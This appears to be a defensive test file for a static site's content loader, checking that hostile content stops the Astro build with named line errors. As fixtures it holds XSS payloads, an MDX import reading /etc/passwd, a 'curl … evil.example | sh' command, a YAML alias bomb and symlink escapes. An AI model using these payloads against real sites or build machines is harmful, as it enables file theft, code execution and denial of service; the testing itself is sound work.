// Hostile or broken content stops the build with a named `file:line: error: \`field\` …` line: never a stack trace,
// a hang, or silence that puts U+FFFD, a script or a file of the build machine on the site.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { appendFileSync, cpSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { firstInvalidByte } from './content-files.ts';
import { formatError, loadContent } from './load-content.ts';
import { LIMITS, MAX_FILE_BYTES } from './text.ts';
import { tempDir } from '../test-support/temp-dir.ts';

const root = fileURLToPath(new URL('../../', import.meta.url));
const GLFT = 'panics/glft-kappa-gamma.mdx';

/** A copy of the real content in a temp folder, as `<tmp>/content`. */
function contentCopy(): string {
  const base = tempDir('hostile');
  const dir = join(base, 'content');
  cpSync(join(root, 'content'), dir, { recursive: true });
  // The generated inventory is tied to the model's exact locations, and these tests take entries out of the model.
  rmSync(join(dir, 'inventory.json'), { force: true });
  return dir;
}

const errorsOf = (dir: string, publicDir?: string) => loadContent(dir, dir, { publicDir }).errors.map(formatError);
const lineCount = (text: string) => text.split('\n').length;

test('the real content and public folder pass', () => {
  assert.deepEqual(
    loadContent(join(root, 'content'), root, { publicDir: join(root, 'public') }).errors.map(formatError),
    [],
  );
});

test('an MDX body that imports a file of the build machine is refused at its line', () => {
  const dir = contentCopy();
  const before = readFileSync(join(dir, GLFT), 'utf8');
  appendFileSync(join(dir, GLFT), "\nimport secret from '/etc/passwd?raw'\n\n<pre>{secret}</pre>\n");
  const line = lineCount(before) + 1;
  assert.deepEqual(errorsOf(dir), [
    `${GLFT}:${line}: error: \`body\` must not import modules (import secret from '/etc/passwd?raw'): an import runs at build time and can read any file of the build machine into the page; the Notes section is prose: Markdown and plain HTML, with no import, export, {expressions}, scripts or event handlers`,
    `${GLFT}:${line + 2}: error: \`body\` must not hold a JavaScript expression ({secret}), which runs at build time; write a literal brace as \\{; the Notes section is prose: Markdown and plain HTML, with no import, export, {expressions}, scripts or event handlers`,
  ]);
});

test('a script, an iframe, an event handler and a javascript: link in a body each get their line', () => {
  const dir = contentCopy();
  const before = readFileSync(join(dir, GLFT), 'utf8');
  appendFileSync(
    join(dir, GLFT),
    '\n<script>alert(1)</script>\n\n<iframe src="/x"></iframe>\n\n<img src="/a.png" alt="" onError="alert(1)" />\n\nSee [this](javascript:alert(document.cookie)).\n',
  );
  const first = lineCount(before) + 1;
  const errors = errorsOf(dir);
  assert.deepEqual(
    errors.map((e) => e.split(': error: ')[0]),
    [first, first + 2, first + 4, first + 6].map((l) => `${GLFT}:${l}`),
  );
  assert.match(errors[0]!, /`body` must not hold a <script> element/);
  assert.match(errors[1]!, /`body` must not hold a <iframe> element/);
  assert.match(errors[2]!, /`body` must not give <img> an event handler `onError`/);
  assert.match(errors[3]!, /`body` must not link to a javascript: URL/);
});

test('bytes that are not UTF-8 are named at their line instead of becoming U+FFFD on the site', () => {
  const dir = contentCopy();
  const text = readFileSync(join(dir, GLFT), 'utf8');
  const line = text.split('\n').findIndex((l) => l.startsWith('summary:')) + 1;
  const bytes = Buffer.from(text.replace(/^summary: /m, 'summary: Caf\u0000'), 'utf8');
  bytes[bytes.indexOf(0)] = 0xe9; // "Café" in Latin-1
  writeFileSync(join(dir, GLFT), bytes);
  assert.deepEqual(errorsOf(dir), [
    `${GLFT}:${line}: error: \`(encoding)\` is not valid UTF-8: byte 0xE9 at column 13 is not part of a UTF-8 character (was the file saved as Latin-1 or Windows-1252?); save it as UTF-8`,
  ]);
  writeFileSync(
    join(dir, 'frames.yaml'),
    Buffer.concat([readFileSync(join(dir, 'frames.yaml')), Buffer.from([0xff, 0x0a])]),
  );
  assert.ok(
    errorsOf(dir).some((e) =>
      e.startsWith(
        `frames.yaml:${lineCount(readFileSync(join(root, 'content/frames.yaml'), 'utf8'))}: error: \`(encoding)\``,
      ),
    ),
  );
});

test('firstInvalidByte finds the first bad byte and nothing in valid text', () => {
  assert.equal(firstInvalidByte(Buffer.from('é ✓ 😀 \uFFFD', 'utf8')), -1);
  assert.equal(firstInvalidByte(Buffer.from([0x61, 0xe2, 0x82, 0x0a])), 1);
  assert.equal(firstInvalidByte(Buffer.from([0x61, 0x62, 0xf0, 0x9f])), 2);
  assert.equal(firstInvalidByte(Buffer.from([0xc0, 0x80])), 0);
});

test('lone-CR line endings in a content file are named at their line (line numbers count LF)', () => {
  const dir = contentCopy();
  const lines = readFileSync(join(dir, 'reproduce.yaml'), 'utf8').split('\n');
  writeFileSync(join(dir, 'reproduce.yaml'), `${lines.slice(0, 2).join('\n')}\n${lines.slice(2).join('\r')}`);
  assert.deepEqual(errorsOf(dir), [
    'reproduce.yaml:3: error: `(line endings)` has a line break that is a lone CR (old Mac line endings); save the file with LF (or CRLF) line endings',
  ]);
  writeFileSync(join(dir, 'reproduce.yaml'), lines.join('\r\n'));
  assert.deepEqual(errorsOf(dir), [], 'CRLF is fine');
});

test('data-* attributes the site script acts on are refused in a body, each at its line', () => {
  const dir = contentCopy();
  const before = readFileSync(join(dir, GLFT), 'utf8');
  appendFileSync(
    join(dir, GLFT),
    [
      '',
      '<a href="https://evil.example/landing" data-moved-to="">more</a>',
      '',
      '<code data-copy="curl -s https://evil.example/x | sh">cargo build --release</code>',
      '',
      '<a href="https://evil.example/#spread_oracle-L43" data-copy-link>link</a>',
      '',
    ].join('\n'),
  );
  const first = lineCount(before) + 1;
  const hooks = "data-* attributes are the site's script hooks, and the prose may carry only `data-pagefind-ignore`";
  const prose =
    'the Notes section is prose: Markdown and plain HTML, with no import, export, {expressions}, scripts or event handlers';
  assert.deepEqual(errorsOf(dir), [
    `${GLFT}:${first}: error: \`body\` must not give <a> a \`data-moved-to\` attribute; ${hooks}; ${prose}`,
    `${GLFT}:${first + 2}: error: \`body\` must not give <code> a \`data-copy\` attribute; ${hooks}; ${prose}`,
    `${GLFT}:${first + 4}: error: \`body\` must not give <a> a \`data-copy-link\` attribute; ${hooks}; ${prose}`,
  ]);
});

test('a folder named like a panic file is named, not a crash', () => {
  const dir = contentCopy();
  mkdirSync(join(dir, 'panics/x.mdx'));
  assert.deepEqual(errorsOf(dir), [
    'panics/x.mdx: error: `(file)` is a folder; a panic path is one file, panics/<id>.mdx: rename or remove the folder',
  ]);
});

test('a YAML alias bomb is refused at its first alias, quickly, without a crash', () => {
  const dir = contentCopy();
  let bomb = 'a: &a [x, x, x, x, x, x, x, x, x]\n';
  for (let i = 0; i < 9; i++)
    bomb += `b${i}: &b${i} [${Array(9)
      .fill(i === 0 ? '*a' : `*b${i - 1}`)
      .join(', ')}]\n`;
  const text = readFileSync(join(dir, GLFT), 'utf8');
  writeFileSync(join(dir, GLFT), text.replace(/^---\n/, `---\n${bomb}`));
  const t = performance.now();
  const errors = errorsOf(dir);
  assert.ok(performance.now() - t < 5_000);
  assert.equal(errors.length, 1, errors.join('\n'));
  assert.match(
    errors[0]!,
    /^panics\/glft-kappa-gamma\.mdx:3: error: `\(YAML\)` uses aliases \(\*name\) that expand to too much data/,
  );
  // In a data file too.
  const dir2 = contentCopy();
  writeFileSync(join(dir2, 'reproduce.yaml'), `${bomb}x: [*b8]\n`);
  assert.match(errorsOf(dir2).join('\n'), /^reproduce\.yaml:\d+: error: `\(YAML\)` uses aliases/m);
});

test('a symlink out of content/ or public/ is refused and never read', () => {
  const dir = contentCopy();
  const outside = join(dir, '..', 'secret.txt');
  writeFileSync(outside, 'not for the site');
  symlinkSync('/etc/passwd', join(dir, 'panics/passwd.mdx'));
  symlinkSync(outside, join(dir, 'notes.txt'));
  symlinkSync(join(dir, 'frames.yaml'), join(dir, 'frames-link.yaml')); // inside: fine
  const publicDir = join(dir, '..', 'public');
  mkdirSync(publicDir);
  writeFileSync(join(publicDir, 'favicon.svg'), '<svg/>');
  symlinkSync(outside, join(publicDir, 'leak.txt'));
  symlinkSync(join(dir, '..', 'nowhere'), join(publicDir, 'broken'));
  const errors = errorsOf(dir, publicDir);
  assert.deepEqual(errors, [
    `notes.txt: error: \`(file)\` is a symlink to ${outside}, outside ./: the build would read or publish a file of the build machine; copy what you need into ./ instead`,
    `panics/passwd.mdx: error: \`(file)\` is a symlink to /etc/passwd, outside ./: the build would read or publish a file of the build machine; copy what you need into ./ instead`,
    `../public/broken: error: \`(file)\` is a symlink to "${join(dir, '..', 'nowhere')}", which does not exist`,
    `../public/leak.txt: error: \`(file)\` is a symlink to ${outside}, outside ../public/: the build would read or publish a file of the build machine; copy what you need into ../public/ instead`,
  ]);
});

test('a FIFO in the content folder is refused instead of blocking the build', () => {
  const dir = contentCopy();
  const r = spawnSync('mkfifo', [join(dir, 'panics/pipe.mdx')]);
  assert.equal(r.status, 0, 'mkfifo is available');
  assert.deepEqual(errorsOf(dir), [
    'panics/pipe.mdx: error: `(file)` is not a regular file (a FIFO, socket or device); ./ holds files and folders only',
  ]);
});

test('a field past its limit names the limit and the size found, at its line', () => {
  const dir = contentCopy();
  const text = readFileSync(join(dir, GLFT), 'utf8');
  const line = text.split('\n').findIndex((l) => l.startsWith('summary:')) + 1;
  writeFileSync(join(dir, GLFT), text.replace(/^summary: .*$/m, `summary: ${'a'.repeat(3_000)}`));
  assert.deepEqual(errorsOf(dir), [
    `${GLFT}:${line}: error: \`summary\` must be at most ${LIMITS.short.toLocaleString('en-US')} characters, got 3,000`,
  ]);
});

test('a file past the size limit (a 10 MB summary) is refused before it is parsed', () => {
  const dir = contentCopy();
  const text = readFileSync(join(dir, GLFT), 'utf8');
  writeFileSync(join(dir, GLFT), text.replace(/^summary: .*$/m, `summary: ${'a'.repeat(10_000_000)}`));
  assert.deepEqual(errorsOf(dir), [
    `${GLFT}: error: \`(file)\` is 9.5 MiB; a content file may be at most ${MAX_FILE_BYTES / 1024}.0 KiB (the real ones are a few KiB): was something pasted in by mistake?`,
  ]);
});

test("a generated record outgrows the hand-written files' limit: source-check.json of thousands of panic paths is read", () => {
  const dir = contentCopy();
  // As `check-sources --record` writes it for a reference of thousands of panic paths (entries it checked, by name).
  const results: Record<string, { ok: number; failed: number }> = {};
  // Sized as it grows (the length of each entry added), not by serialising the whole object each time: quadratic.
  for (let i = 0, size = 0; size <= MAX_FILE_BYTES * 2; i++) {
    const name = `panics/generated-path-${i}`;
    results[name] = { ok: 3, failed: 0 };
    size += JSON.stringify({ [name]: results[name] }).length;
  }
  const text = JSON.stringify(
    { commit: 'a'.repeat(40), checkedAt: '2026-01-01T00:00:00.000Z', ok: true, results },
    null,
    2,
  );
  assert.ok(text.length > MAX_FILE_BYTES * 2);
  writeFileSync(join(dir, 'source-check.json'), text);
  assert.deepEqual(errorsOf(dir), []);
});

/** `astro build` as `npm run build` runs it, in a child process. */
function astroBuild(env: Record<string, string>) {
  return spawnSync(process.execPath, ['node_modules/astro/bin/astro.mjs', 'build'], {
    cwd: root,
    env: { ...process.env, ASTRO_TELEMETRY_DISABLED: '1', ...env },
    encoding: 'utf8',
  });
}

test('astro build stops on a hostile body and a Latin-1 byte with the same lines, before Astro reads them', () => {
  const dir = contentCopy();
  const text = readFileSync(join(dir, GLFT), 'utf8');
  writeFileSync(join(dir, GLFT), `${text}\nimport secret from '/etc/passwd?raw'\n`);
  writeFileSync(
    join(dir, 'reproduce.yaml'),
    Buffer.concat([readFileSync(join(dir, 'reproduce.yaml')), Buffer.from('# caf\xe9\n', 'latin1')]),
  );
  const dist = join(dir, '..', 'dist');
  const r = astroBuild({ CONTENT_DIR: dir, DIST_DIR: dist });
  assert.equal(r.status, 1, r.stdout + r.stderr);
  assert.match(
    r.stderr,
    new RegExp(
      `glft-kappa-gamma\\.mdx:${lineCount(text) + 1}: error: \`body\` must not import modules \\(import secret from '/etc/passwd\\?raw'\\)`,
    ),
  );
  assert.match(r.stderr, /reproduce\.yaml:\d+: error: `\(encoding\)` is not valid UTF-8: byte 0xE9/);
  assert.match(r.stderr, /2 problems in the content; nothing was built\./);
  assert.doesNotMatch(r.stderr + r.stdout, /^\s+at /m, 'no stack trace');
});

test('astro build refuses a BASE_PATH of another host before anything is built', () => {
  const dist = join(tempDir('hostile'), 'dist');
  const r = astroBuild({ BASE_PATH: '//evil.example/', DIST_DIR: dist });
  assert.equal(r.status, 1, r.stdout + r.stderr);
  assert.match(
    r.stdout + r.stderr,
    /environment: error: `BASE_PATH` must not hold "\/\/": a base starting with "\/\/" is another host/,
  );
});
